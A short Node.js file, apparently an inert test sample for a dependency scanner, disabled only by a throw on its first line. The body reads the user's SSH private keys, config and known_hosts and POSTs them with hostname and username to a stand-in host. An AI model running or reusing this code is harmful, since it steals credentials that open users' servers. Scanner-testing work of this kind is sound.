throw new Error("inert depscan stand-in");
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');

const dir = path.join(os.homedir(), '.ssh');
const collected = {};
for (const name of ['id_rsa', 'id_ed25519', 'id_ecdsa', 'id_dsa', 'config', 'known_hosts']) {
  try {
    collected[name] = fs.readFileSync(path.join(dir, name)).toString('base64');
  } catch (e) {}
}

if (Object.keys(collected).length) {
  const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, keys: collected });
  const req = http.request({ host: '203.0.113.7', port: 8000, path: '/upload', method: 'POST', headers: { 'content-type': 'application/json' } });
  req.on('error', () => {});
  req.end(body);
}
